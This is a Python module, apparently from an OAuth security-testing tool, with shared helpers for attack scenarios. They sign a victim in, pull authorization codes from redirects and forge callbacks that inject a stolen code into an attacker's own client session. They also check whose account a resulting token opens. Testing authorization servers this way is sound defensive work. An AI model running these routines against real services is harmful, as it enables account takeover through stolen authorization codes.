"""Steps several attacks share: a victim signing in, a callback taken apart or forged."""

from __future__ import annotations

from urllib.parse import parse_qsl, urlencode, urlsplit

from ..client import (
    Application,
    AuthorizationRequest,
    Browser,
    ClientError,
    ConsentChoice,
    Flow,
    Form,
    OAuthResponseError,
    Page,
    TokenResponse,
    call_api,
    introspect,
    new_client,
)
from .result import Unsupported
from .scenario import Account, Target


def sign_in(
    browser: Browser, url: str, account: Account, consent: ConsentChoice = "approve"
) -> Page:
    """Open an authorization URL, sign in, answer the consent page if one comes."""
    page = browser.open(url)
    if page.login_form is None:
        return page  # an error page, or a redirect straight back
    page = signed_in(browser.login(account.username, account.password), account)
    if page.kind == "consent":
        page = browser.consent(consent)
    return page


def signed_in(page: Page, account: Account) -> Page:
    """The page after the login form, or Unsupported if the login itself failed."""
    if page.login_form is not None or page.kind == "error page":
        raise Unsupported(f"Signing in as {account.username!r} failed: {page.message}")
    return page


def params_of(url: str | None) -> dict[str, str]:
    """The query parameters of a URL, first value of each."""
    if not url:
        return {}
    params: dict[str, str] = {}
    for name, value in parse_qsl(urlsplit(url).query, keep_blank_values=True):
        params.setdefault(name, value)
    return params


def code_from(page: Page) -> str:
    """The code in the redirect the browser is at, or Unsupported saying what came instead."""
    code = params_of(page.location).get("code") if page.kind == "redirect" else None
    if not code:
        raise Unsupported(f"The victim's sign-in did not end with a code: {page.describe()}")
    return code


def forged_callback(redirect_uri: str, code: str, state: str | None, iss: str | None) -> str:
    """A callback as the attacker plants it: their code, the state they need, maybe iss."""
    params = {"code": code, "state": state, "iss": iss}
    query = urlencode({k: v for k, v in params.items() if v is not None})
    return f"{redirect_uri}?{query}"


def redeem_planted(session: Flow, callback: str) -> TokenResponse | OAuthResponseError:
    """The client takes a callback the attacker planted, and redeems its code.

    Returns the tokens, or the token endpoint's refusal.
    """
    session.receive_redirect(callback)
    try:
        return session.exchange_code()
    except OAuthResponseError as exc:
        return exc


def inject(
    t: Target, application: Application, code: str, iss: str | None, *, pkce: bool
) -> tuple[str, TokenResponse | OAuthResponseError]:
    """A stolen code, delivered to the attacker's own new session at the client.

    Returns the callback she planted, and what the token endpoint answered the
    client (which sends her session's code_verifier, with `pkce`).
    """
    with t.flow(application) as attacker_session:
        request = attacker_session.authorize(pkce=pkce)
        callback = forged_callback(request.redirect_uri or t.redirect_uri, code, request.state, iss)
        return callback, redeem_planted(attacker_session, callback)


def authorization_url(
    target: Target,
    application: Application,
    redirect_uri: str | None = None,
    scope: str | None = None,
) -> str:
    """An authorization request as an attacker writes it: no PKCE, a state of their own."""
    return AuthorizationRequest.build(
        target.endpoints().authorization_endpoint,
        application.client_id,
        redirect_uri or application.redirect_uri or target.redirect_uri,
        scope=scope,
        token_factory=target.token_factory,
    ).url


def fields_of(form: Form) -> tuple[str, str]:
    """The names of the username and password fields of a login form."""
    password = next((f.name for f in form.fields if f.type == "password"), None)
    username = next(
        (f.name for f in form.fields if f.name == "username"),
        next((f.name for f in form.fields if f.type in ("text", "email")), None),
    )
    if password is None or username is None:
        raise Unsupported("The login form has no username or password field.")
    return username, password


def whose(target: Target, application: Application, token: TokenResponse) -> str:
    """Whose account a token opens: the API's answer, or introspection's (RFC 7662)."""
    if target.api_url is not None:
        with new_client(target.verify) as http:
            try:
                body = call_api(target.api_url, token.access_token, http=http).json()
            except (ClientError, ValueError) as exc:
                return f"unknown (the API refused the token: {exc})"
        return str(body.get("user", "unknown")) if isinstance(body, dict) else "unknown"
    endpoints = target.endpoints()
    if endpoints.introspection_endpoint is None:
        return "unknown (no API URL and no introspection endpoint to ask)"
    with new_client(target.verify) as http:
        try:
            answer = introspect(endpoints, application, token.access_token, http=http)
        except ClientError as exc:
            return f"unknown ({exc})"
    return answer.username or "unknown"


def token_state(target: Target, application: Application, access_token: str) -> str:
    """'active' or 'inactive', by introspection (RFC 7662) or else by calling the API."""
    endpoints = target.endpoints()
    with new_client(target.verify) as http:
        if endpoints.introspection_endpoint is not None:
            try:
                answer = introspect(endpoints, application, access_token, http=http)
            except ClientError as exc:
                return f"unknown ({exc})"
            return "active" if answer.active else "inactive"
        if target.api_url is not None:
            response = http.get(target.api_url, headers={"Authorization": f"Bearer {access_token}"})
            return "active" if response.is_success else f"inactive ({response.status_code})"
    return "unknown"


def consent_offers(page: Page, choice: str) -> bool:
    form = page.consent_form
    if form is None:
        return False
    return any(choice in (f.value, *f.options) for f in form.named("consent"))
